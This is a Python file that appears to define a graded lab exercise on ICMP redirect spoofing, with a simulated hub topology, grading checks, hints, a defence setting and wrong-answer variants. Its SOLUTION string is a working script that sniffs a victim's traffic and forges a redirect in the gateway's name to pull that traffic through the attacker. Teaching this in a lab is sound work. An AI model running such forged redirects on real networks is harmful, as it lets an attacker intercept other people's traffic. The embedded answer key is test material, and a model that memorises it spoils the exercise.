"""Exercise 17: ICMP redirect (RFC 792, page 12; RFC 1122, section 3.2.2.2)."""

from __future__ import annotations

from collections.abc import Generator
from typing import Any

from rawkit.lab import (
    Check,
    Defence,
    Exercise,
    Link,
    Prediction,
    Seed,
    Stage,
    Topology,
    Values,
    Wrong,
    python,
    services,
)
from rawkit.wire import IPv4

__all__ = ["EXERCISE"]

TASK = """
On your hub, `{victim}` sends datagrams to UDP port `{port}` of `{far}` again and again, by way of the gateway
`{gateway}`. Tell the victim, in the gateway's name, that there is a better way to `{far}`: you, `{you}`. From
then on the victim sends them to your MAC address, `{your_mac}`.

Your redirect has to quote a packet that the victim really sent. Your command may end as soon as it is told.
"""

SOLUTION = """
import os
from rawkit import ICMPv4, IPv4, UDP
from rawkit.link import PacketSocket, RawIPv4Socket

victim, far, gateway = os.environ["LAB_VICTIM"], os.environ["LAB_FAR"], os.environ["LAB_GATEWAY"]
with PacketSocket("eth0", promiscuous=True, filter=f"udp and src {victim} and dst {far}") as link:
    heard = link.receive(8).packet()
quoted = heard[IPv4] / heard[UDP] / heard.payload
with RawIPv4Socket() as raw:
    told = ICMPv4.redirect(gateway=os.environ["LAB_YOU"], code=1, quoting=quoted)
    raw.send(IPv4(src=gateway, dst=victim) / told, victim)
"""


def values(seed: Seed) -> dict[str, Any]:
    """Three stations on a hub, and a host far away."""
    network, beyond = seed.network(), seed.network()
    addresses = {name: seed.address(network) for name in ("you", "victim", "gateway")}
    return {
        **addresses,
        "far": seed.address(beyond),
        "_exit": str(beyond[1]),
        "your_mac": seed.mac(),
        "port": seed.port(),
    }


def topology(v: Values) -> Topology:
    """A hub, and a network behind the gateway."""
    links = [
        Link("you", "hub", (f"{v.you}/24", ()), (v.your_mac, None)),
        Link("victim", "hub", (f"{v.victim}/24", ())),
        Link("gateway", "hub", (f"{v.gateway}/24", ())),
        Link("gateway", "far", (f"{v._exit}/24", f"{v.far}/24")),
    ]
    return Topology(links, routers=["gateway"], hubs=["hub"])


def scene(stage: Stage) -> Generator[None, None, None]:
    """The victim talks without end; it takes redirects, as Linux does by default."""
    v = stage.values
    stage.host("gateway").set_sysctls({"ipv4/conf/all/send_redirects": 0, "ipv4/conf/eth0/send_redirects": 0})
    accept = int(not stage.defended)
    stage.host("victim").set_sysctls(
        {"ipv4/conf/all/accept_redirects": accept, "ipv4/conf/eth0/accept_redirects": accept}
    )
    stage.run("victim", ["ping", "-c", "1", "-W", "2", v.you])  # a way to a stranger is not taken at once
    stage.act("far", services.udp_echo(v.port), ready=True)
    stage.act("victim", services.udp_source(v.far, v.port, [b"hello"] * 80, every=0.1), ready=True)
    yield
    stage.wait_until(
        lambda: bool(stage.wire.sent_by("victim").ether(dst=v.your_mac).ip(dst=v.far).all()), seconds=0.6
    )


EXERCISE = Exercise(
    name="redirect",
    number=17,
    level=3,
    title="ICMP redirect",
    learnt="Who may tell a host to take another way, and how little it takes to pretend.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "Whose address must be the redirect's IPv4 source, so that Linux takes it? (you, gateway or far)",
        lambda _: "gateway",
        "A redirect counts only if it comes from the current first hop (RFC 1122, section 3.2.2.2).",
    ),
    hints=(
        "A redirect speaks for a gateway about a packet that went "
        "through it: so listen first, and quote that packet.",
        "ICMP type 5, code 1 (for the host); the new gateway's address "
        "stands where an echo has identifier and number.",
        "Type is byte 34 of the frame, the gateway's address is in 38 "
        "to 41, the quoted IP header begins at byte 42.",
    ),
    checks=[
        Check(
            "redirect",
            "you send {victim} a redirect to {you}, in the name of {gateway}",
            lambda e: (
                e.wire.sent_by("you")
                .ip(src=e.values.gateway, dst=e.values.victim)
                .icmp(type=5, gateway=e.values.you)
                .sound()
                .saw()
            ),
            "RFC 792, page 12",
        ),
        Check(
            "quoted",
            "it quotes a packet from {victim} to {far}",
            lambda e: (
                e.wire.sent_by("you").icmp(type=5).quoting(IPv4, src=e.values.victim, dst=e.values.far).saw()
            ),
            "RFC 792, page 12",
        ),
        Check(
            "taken",
            "the victim sends its datagrams to your MAC address",
            lambda e: e.wire.sent_by("victim").ip(dst=e.values.far).ether(dst=e.values.your_mac).saw(),
            "RFC 1122, section 3.2.2.2",
        ),
    ],
    defence=Defence("the victim takes no redirects (accept_redirects=0)", "taken"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(
            python(
                SOLUTION.replace("IPv4(src=gateway, dst=victim)", 'IPv4(src=os.environ["LAB_YOU"], dst=victim)')
            ),
            "redirect",
            "src is",
        ),
        Wrong(
            python(SOLUTION.replace("quoting=quoted)", "quoting=IPv4(src=far, dst=victim) / heard[UDP])")),
            "quoted",
            "src is",
        ),
        Wrong(
            python(
                SOLUTION.replace(
                    'ICMPv4.redirect(gateway=os.environ["LAB_YOU"]', "ICMPv4.redirect(gateway=gateway"
                )
            ),
            "redirect",
            "gateway is",
        ),
    ],
)
